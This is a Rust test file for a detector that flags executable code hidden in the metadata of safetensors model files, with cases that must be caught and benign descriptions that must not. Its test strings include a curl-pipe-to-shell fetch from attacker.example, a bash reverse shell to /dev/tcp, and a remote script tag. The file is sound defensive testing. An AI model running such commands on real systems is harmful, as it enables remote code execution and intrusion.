use super::python_in;
use crate::format::safetensors::tests::weigh_named;
use crate::{Reading, Verdict};

/// A file without tensors, whose metadata have one text.
fn with(text: &str) -> Reading {
    let header = serde_json::json!({"__metadata__": {"note": text}}).to_string();
    let length = header.len().next_multiple_of(8);
    let bytes = [&(length as u64).to_le_bytes()[..], format!("{header:length$}").as_bytes()].concat();
    weigh_named("model.safetensors", &bytes)
}

#[test]
fn programs_in_metadata_are_told() {
    for text in [
        "import os; os.system('id')",
        "x = __import__('subprocess').run(['id'])",
        "curl http://attacker.example/x | sh",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "<SCRIPT src=//attacker.example/x.js></SCRIPT>",
        "exec(base64.b64decode('aWQ='))",
    ] {
        let reading = with(text);
        assert_eq!(reading.verdict(), Verdict::Suspicious, "{text}: {:#?}", reading.findings);
        assert_eq!(reading.findings[0].rule, "code/program-in-text", "{text}");
    }
}

#[test]
fn what_people_write_of_models_is_no_program() {
    for text in [
        "Call model.eval() first, then evaluate(x) and exec_time(y); needs the os module.",
        "Trained with train.sh on 8 GPUs; see the subprocess chapter of our notes",
        "A description of a script for plays: <b>bold</b>, scripts, JavaScript",
        "wget the weights from the hub",
        "made by fit.py --mesh -input a.obj; see /mesh -i",
        "{\"optimizer\": \"torch.optim.AdamW(lr=1e-4)\", \"eval\": true}",
    ] {
        let reading = with(text);
        assert_eq!(reading.verdict(), Verdict::Clean, "{text}: {:#?}", reading.findings);
    }
}

#[test]
fn a_program_behind_much_text_is_told_as_well() {
    let reading = with(&format!("{} os.system('id')", "words ".repeat(1000)));
    assert_eq!(reading.findings[0].rule, "code/program-in-text");
    assert!(reading.findings[0].evidence.contains("os.system('id')"), "{:?}", reading.findings[0]);
}

#[test]
fn words_of_vocabularies_are_no_programs() {
    for word in ["os.system(", "subprocess.Popen(", "__import__(", "<script>", "rm -rf /"] {
        assert_eq!(python_in(word), None, "{word}");
    }
    assert!(python_in("import os\nos.system('id')").is_some());
    assert!(python_in("__import__('os')").is_some());
}
